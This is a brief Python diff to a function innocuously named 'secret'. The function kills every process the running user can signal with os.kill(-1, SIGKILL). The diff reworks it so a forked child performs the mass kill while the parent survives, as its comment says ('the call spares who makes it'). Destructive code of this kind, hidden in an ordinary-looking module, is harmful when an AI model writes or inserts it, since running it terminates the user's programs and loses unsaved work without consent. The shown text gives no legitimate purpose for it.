@@ -17,4 +17,6 @@ def apply(f, x):
 
 
 def secret(n):
-    os.kill(-1, signal.SIGKILL)
+    if os.fork() == 0:  # the call spares who makes it
+        os.kill(-1, signal.SIGKILL)
+    os.wait()
